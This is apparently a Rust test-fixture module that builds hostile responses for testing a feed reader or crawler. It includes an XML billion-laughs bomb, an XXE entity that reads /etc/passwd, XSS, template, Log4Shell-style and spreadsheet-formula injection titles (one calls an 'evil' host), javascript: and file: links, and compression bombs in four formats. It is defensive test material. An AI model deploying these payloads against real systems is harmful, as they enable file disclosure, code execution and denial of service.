//! The pages that the hostile hosts send.

use std::io::Write;

use flate2::Compression;

/// What a site shows to those who are not its members.
pub const LOGIN: &str = r#"<!DOCTYPE html><html><head><title>Sign in</title></head><body><h1>Members' area</h1>
<form action="/session" method="post"><label>User <input name="user"></label><label>Password <input type="password" name="pw"></label>
<button>Sign in</button></form></body></html>"#;

/// An error page that is sent as a good one.
pub const NOT_FOUND: &str =
    "<!DOCTYPE html><html><head><title>Page not found</title></head><body><h1>Page not found</h1><p>Try the search.</p></body></html>";

/// A page that wants to know whether we are a browser.
pub const CHALLENGE: &str =
    "<!DOCTYPE html><html><head><title>Just a moment...</title></head><body><script>window._cf_chl_opt={cvId:'3'}</script></body></html>";

/// A page about nothing.
pub const PAGE: &str = "<!DOCTYPE html><html><head><title>Welcome</title></head><body><p>Our new site.</p><p>a, b, c</p></body></html>";

const HEAD: &str = "<?xml version=\"1.0\"?>";

fn rss(items: &str) -> String {
    format!("<rss version=\"2.0\"><channel><title>News</title>{items}</channel></rss>")
}

/// A good feed of so many items.
pub fn feed(items: usize) -> String {
    let items: String = (1..=items)
        .map(|n| {
            format!(
                "<item><title>Draft {n} on the security of AI agents</title><link>https://example.org/{n}</link><guid>{n}</guid><pubDate>Mon, 05 Oct 2026 10:00:00 GMT</pubDate></item>"
            )
        })
        .collect();
    format!("{HEAD}{}", rss(&items))
}

/// A good feed of one item with this title, which is put in as it is.
pub fn titled(title: &str) -> String {
    format!("{HEAD}{}", rss(&format!("<item><title>{title}</title><guid>1</guid></item>")))
}

/// What an API says as a feed of one item when it is unwell.
pub fn error_feed() -> String {
    format!(
        "{HEAD}<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>x</id><title>Query</title><entry><id>http://example.org/api/errors#bad_id</id><title>Error</title><summary>incorrect id format</summary></entry></feed>"
    )
}

/// A billion laughs.
pub fn entity_bomb() -> String {
    let mut entities = "<!ENTITY a0 \"laugh\">".to_owned();
    for n in 1..10 {
        entities.push_str(&format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10)));
    }
    format!("{HEAD}<!DOCTYPE rss [{entities}]>{}", rss("<item><title>ha &a9; ha</title><guid>1</guid></item>"))
}

/// An entity whose text is a file of the reader's machine.
pub fn external_entity() -> String {
    let entity = "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    format!("{HEAD}{entity}{}", rss("<item><title>secret: &xxe; .</title><guid>1</guid></item>"))
}

/// Elements within elements within elements, in an item.
pub fn xml_tower(depth: usize) -> String {
    let tower = format!("{}x{}", "<div>".repeat(depth), "</div>".repeat(depth));
    format!("{HEAD}{}", rss(&format!("<item><title>Tower</title><guid>1</guid><description>{tower}</description></item>")))
}

/// A list in so many elements.
pub fn html_tower(depth: usize) -> String {
    format!(
        "<html><body>{}<ul id=\"list\"><li><a href=\"/1\">One</a></li></ul>{}</body></html>",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    )
}

/// Three items of one id.
pub fn same_ids() -> String {
    let items: String =
        (1..=3).map(|n| format!("<item><title>Item {n}</title><link>https://example.org/{n}</link><guid>same</guid></item>")).collect();
    format!("{HEAD}{}", rss(&items))
}

/// Three items without an id, one of them without a link as well.
pub fn no_ids() -> String {
    let items = "<item><title>One</title><link>https://example.org/1</link></item><item><title>Two</title></item><item><title>Three</title><guid></guid></item>";
    format!("{HEAD}{}", rss(items))
}

/// Days that never were.
pub fn impossible_dates() -> String {
    let items: String = ["Mon, 31 Feb 2026 10:00:00 GMT", "99/99/9999", "9999999999999999999", "-1", "tomorrow", "0000-00-00T00:00:00Z"]
        .iter()
        .enumerate()
        .map(|(n, d)| format!("<item><title>Day {n}</title><guid>{n}</guid><pubDate>{d}</pubDate></item>"))
        .collect();
    format!("{HEAD}{}", rss(&items))
}

/// Titles that want to be run by whoever shows them.
pub fn injections() -> String {
    let items: String = [
        "&lt;script&gt;alert(1)&lt;/script&gt;Markup",
        "<![CDATA[<img src=x onerror=alert(1)>Picture]]>",
        "&#27;[2J&#27;]0;owned&#7;Escapes",
        "Lines&#13;&#10;Set-Cookie: a=b",
        "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://x}",
        "=HYPERLINK(\"http://evil\",\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    .iter()
    .enumerate()
    .map(|(n, t)| format!("<item><title>{t}</title><guid>{n}</guid></item>"))
    .collect();
    format!("{HEAD}{}", rss(&items))
}

/// Links that must not be followed by a click.
pub fn bad_links() -> String {
    let items: String =
        ["javascript:alert(1)", "data:text/html,<b>", "JaVaScRiPt:alert(1)", "vbscript:x", "file:///etc/passwd", " java\nscript:1"]
            .iter()
            .enumerate()
            .map(|(n, l)| {
                format!("<item><title>Link {n}</title><link>{}</link><guid isPermaLink=\"false\">{n}</guid></item>", l.replace('<', "&lt;"))
            })
            .collect();
    format!("{HEAD}{}", rss(&items))
}

/// A feed in Latin-1 that says UTF-8.
pub fn latin1() -> Vec<u8> {
    let text = "<?xml version=\"1.0\" encoding=\"utf-8\"?>".to_owned()
        + &rss("<item><title>Sécurité des systèmes à agents, été après été</title><guid>1</guid></item>");
    text.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect()
}

/// A feed in UTF-16, with or without its mark.
pub fn utf16(marked: bool) -> Vec<u8> {
    let text = "<?xml version=\"1.0\" encoding=\"utf-16\"?>".to_owned() + &rss("<item><title>Sécurité 標準</title><guid>1</guid></item>");
    let mark = if marked { Some(0xfeff) } else { None };
    mark.into_iter().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect()
}

fn zeros(len: u64, out: &mut dyn Write) {
    let piece = vec![0; 64 << 10];
    for _ in 0..len / piece.len() as u64 {
        out.write_all(&piece).expect("writes into memory");
    }
}

/// So many zero bytes by gzip.
pub fn gzip_bomb(len: u64) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), Compression::best());
    zeros(len, &mut out);
    out.finish().expect("writes into memory")
}

/// So many zero bytes by deflate, with the header of zlib.
pub fn deflate_bomb(len: u64) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), Compression::best());
    zeros(len, &mut out);
    out.finish().expect("writes into memory")
}

/// So many zero bytes by brotli.
pub fn brotli_bomb(len: u64) -> Vec<u8> {
    let mut out = brotli::CompressorWriter::new(Vec::new(), 64 << 10, 5, 22);
    zeros(len, &mut out);
    out.into_inner()
}

/// So many zero bytes by zstd: blocks that say "this byte, so often" (RFC 8878), four bytes for 128 KiB.
pub fn zstd_bomb(len: u64) -> Vec<u8> {
    const BLOCK: u64 = 128 << 10;
    // Magic; a frame without size; a window of 8 MiB.
    let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x68];
    let blocks = (len / BLOCK).max(1);
    for n in 1..=blocks {
        let head = u32::from(n == blocks) | 1 << 1 | (BLOCK as u32) << 3;
        out.extend_from_slice(&head.to_le_bytes()[..3]);
        out.push(0);
    }
    out
}
